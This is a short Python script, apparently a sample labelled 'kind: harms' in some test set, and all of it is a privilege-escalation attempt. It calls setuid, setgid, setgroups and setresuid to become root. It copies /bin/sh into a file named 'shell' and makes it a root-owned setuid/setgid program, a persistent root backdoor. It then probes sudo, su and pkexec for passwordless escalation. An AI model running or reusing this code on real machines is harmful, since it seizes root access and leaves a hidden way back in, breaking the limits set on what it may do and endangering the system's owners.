# where: first
# kind: harms
# does: Another user is asked for, and a program that makes one root is left.
import os
import shutil
import subprocess

for act in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.setresuid(0, 0, 0)):
    try:
        act()
        print(os.getuid(), os.geteuid())
    except Exception as error:
        print(error)
try:
    shutil.copy("/bin/sh", "shell")
    os.chown("shell", 0, 0)
    os.chmod("shell", 0o6755)
except Exception as error:
    print(error)
for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["pkexec", "id"]):
    try:
        print(subprocess.run(command, capture_output=True, timeout=5, stdin=subprocess.DEVNULL))
    except Exception as error:
        print(error)
